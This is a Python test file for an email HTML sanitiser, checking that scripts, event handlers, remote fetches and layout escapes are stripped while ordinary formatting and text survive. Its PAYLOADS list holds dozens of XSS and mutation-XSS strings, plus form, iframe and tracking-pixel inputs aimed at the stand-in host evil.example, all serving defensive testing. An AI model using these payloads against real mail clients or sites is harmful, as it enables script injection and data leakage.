"""HTML made safe: nothing that runs, nothing that fetches, nothing that escapes the frame."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from contactd.channels.email.plain import to_text
from contactd.channels.email.sanitise import MAX_DEPTH, MAX_SIZE, clean, remote_images, rewritten, show_html
from contactd.channels.email.styles import style

TAG_LIST = """
a abbr address article b bdi bdo big blockquote br caption center cite code col colgroup dd del details dfn div dl dt em font footer
h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark ol p pre q rp rt ruby s samp section small span strike strong sub summary sup
table tbody td tfoot th thead time tr tt u ul var wbr
"""
TAGS = set(TAG_LIST.split())
ADDRESSES = {"href", "src", "background", "action", "xlink:href", "srcset"}


class Seen(HTMLParser):
    """What a reader of the result finds: tags, addresses, depth."""

    def __init__(self, document: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.addresses: list[str] = []
        self.attributes: set[str] = set()
        self.words = ""
        self.feed(document)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value or "" for name, value in attrs if name in ADDRESSES]

    def handle_data(self, data: str) -> None:
        self.words += data


PNG = "data:image/png;base64,AAAA"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example">x</a>',
    '<iframe src="http://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<form action="http://evil.example"><input name=p><button>go</button></form>',
    '<object data="http://evil.example"></object><embed src="http://evil.example">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<base href="http://evil.example"><link rel=stylesheet href="http://evil.example">',
    "<style>@import 'http://evil.example';body{background:url(http://evil.example)}</style>",
    '<div style="background:url(http://evil.example)">x</div>',
    '<div style="background-color:u\\72l(http://evil.example)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<table background="http://evil.example"><tr><td background="http://evil.example">x</table>',
    '<img src="http://evil.example/pixel.gif" width=1 height=1>',
    '<img srcset="http://evil.example/a 2x" src="http://evil.example/b">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="data:text/html,x">',
    '<video src="http://evil.example" poster="http://evil.example"></video><audio src=http://evil.example>',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<a title=\"\ufdd0quot; onclick=alert(1)\" href='https://ok.example'>x</a>",
    "\ufdd0lt;script>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("folded", [False, True])
def test_an_attack_comes_to_nothing(payload: str, folded: bool) -> None:
    shown = Seen(rewritten(f"<p>before</p>{payload}", {}, {}, folded=folded).html)
    assert shown.tags <= TAGS
    assert not [
        name for name in shown.attributes if name.startswith("on") or name in {"srcset", "background", "srcdoc"}
    ]
    for address in shown.addresses:
        assert re.match(r"(https?://|mailto:|tel:|data:image/(png|gif|jpeg|webp|bmp);base64,)", address)
    assert "evil.example" not in "".join(address for address in shown.addresses if not address.startswith("https://ok"))
    assert "before" in shown.words


@settings(max_examples=100, deadline=None)
@given(
    st.lists(
        st.sampled_from([*PAYLOADS, *"<>'\"=/ abc&;", "<div>", "</div>", "<p>", "<a href=", "<!--", "-->", "&lt;"]),
        max_size=30,
    ).map("".join)
)
def test_no_mixture_gets_through(document: str) -> None:
    shown = Seen(clean(document, {}))
    assert shown.tags <= TAGS
    assert not [name for name in shown.attributes if name.startswith("on")]
    to_text(document)


@settings(max_examples=100, deadline=None)
@given(st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=60))
def test_plain_words_stay_what_they_are(words: str) -> None:
    words = words.replace("\ufdd0", "")
    escaped = words.replace("&", "&amp;").replace("<", "&lt;")
    assert Seen(clean(f"<p>{escaped}</p>", {})).words == words


def test_pictures_of_the_mail_are_shown_and_others_only_when_asked_for() -> None:
    document = '<img src="cid:pic%401" alt="a"><img src="CID:gone"><img src="http://far.example/x.png" alt="Logo">'
    shown = clean(document, {"pic@1": "/files/7"})
    assert Seen(shown).addresses == ["/files/7"]
    assert "Logo" in shown
    assert remote_images(document) == ["http://far.example/x.png"]
    asked = Seen(clean(document, {"pic@1": "/files/7"}, {"http://far.example/x.png": PNG}))
    assert asked.addresses == ["/files/7", PNG]
    assert 'content="missing=1 folds=0"' in show_html(document, {})
    assert 'content="missing=0 folds=0"' in show_html(document, {}, {"http://far.example/x.png": PNG})
    assert Seen(
        clean(document, lambda cid: f"data:image/png;base64,{'A' * 4}" if cid == "pic@1" else None)
    ).addresses == ["data:image/png;base64,AAAA"]


def test_ordinary_mail_keeps_its_looks() -> None:
    document = (
        "<html><head><title>t</title><style>p{color:red}</style></head><body bgcolor=white>"
        '<table border=1 width="100%"><tr><td align=center>'
        '<p style="color:#ff0000; font-size: 14px; margin:0">你好 <b>粗</b><br>行</p><td>2</table><ul><li>a<li>b</ul>'
        '<a href="https://shop.example/?a=1&amp;b=2">k</a></body></html>'
    )
    shown = clean(document, {})
    assert '<p style="color: #ff0000; font-size: 14px; margin: 0">你好 <b>粗</b><br>行</p>' in shown
    assert shown.count("<td") == 2
    assert shown.count("<li>") == shown.count("</li>") == 2
    assert 'href="https://shop.example/?a=1&amp;b=2"' in shown
    assert 'target="_blank"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown
    assert "color:red" not in shown


def test_the_document_forbids_everything_the_frame_does_not_need() -> None:
    shown = show_html("<p>x</p>", {}, {"http://far.example/x.png": PNG})
    assert "default-src 'none'; img-src data:; style-src 'unsafe-inline';" in shown
    assert "http" not in shown.partition("</head>")[0].replace("http-equiv", "")
    assert "<script" not in shown


@pytest.mark.parametrize(
    "document",
    [
        "<div>" * 10_000,
        "<span><div></span>" * 10_000,
        "<b><p></b>" * 10_000,
        "<font>" * 500 + "</b><i></font><font>" * 10_000,
        "<ul>" + "<li>" + "<span>" * 400 + "</li><li>" * 10_000,
        '<a b="' * 10_000,
        "<!--" * 10_000,
        "<style>" * 10_000,
        "&" * 10_000,
        "&a" * 10_000,
        "<" * 10_000,
        "<a" + " " * 10_000,
        "x" * (MAX_SIZE + 10),
    ],
    ids=lambda document: document[:12],
)
def test_a_bomb_is_shown_within_bounds(document: str) -> None:
    shown = clean(document, {})
    depth = deepest = 0
    for closing in re.findall(r"<(/?)(?!br|hr|img|wbr|col)[a-z]", shown):
        depth += -1 if closing else 1
        deepest = max(deepest, depth)
    assert deepest <= MAX_DEPTH + 2
    assert len(shown) < 6 * MAX_SIZE
    assert len(to_text(document)) <= MAX_SIZE


@pytest.mark.parametrize(
    ("given_style", "kept"),
    [
        ("color: red; position: fixed", "color: red"),
        ("COLOR:RED;;", "color: RED"),
        ("background: red", ""),
        ("font-family: '微软雅黑', Arial", "font-family: '微软雅黑', Arial"),
        ("color: rgb(1, 2, 3)", "color: rgb(1, 2, 3)"),
        ("color: var(--x)", ""),
        ("color: red\\; x", ""),
        ("width: calc(1px); height: 3px /* x */", "width: calc(1px)"),
        ("color", ""),
    ],
)
def test_styles_are_filtered(given_style: str, kept: str) -> None:
    assert style(given_style) == kept


@pytest.mark.parametrize(
    ("document", "text"),
    [
        ("<p>one</p><p>two<br>three</p>", "one\n\ntwo\nthree"),
        ("<ul><li>a<li>b</ul>", "- a\n- b"),
        ("<table><tr><td>a<td>b<tr><td>c</table>", "a b\nc"),
        (
            '<a href="https://x.example/a">here</a> or <a href="https://y.example">y.example</a>',
            "here (https://x.example/a) or y.example",
        ),
        ("a&nbsp;&lt;b&gt; &amp; 你好", "a <b> & 你好"),
        ("<style>p{}</style><script>x()</script>text<!-- no -->", "text"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("  a \n b  ", "a b"),
        ('<img alt="Logo" src=x>', "[Logo]"),
        ("", ""),
    ],
)
def test_html_as_text(document: str, text: str) -> None:
    assert to_text(document) == text


@pytest.mark.parametrize("words", ["2 < 3 <b> & 4 &lt; 5", "<script>alert(1)</script>", "a<b>c", "&amp;", "x > y"])
def test_text_that_looks_like_markup_stays_text(words: str) -> None:
    escaped = words.replace("&", "&amp;").replace("<", "&lt;")
    shown = Seen(clean(f"<p>{escaped}</p>", {}))
    assert (shown.words, shown.tags) == (words, {"p"})
    assert to_text(f"<p>{escaped}</p>") == words
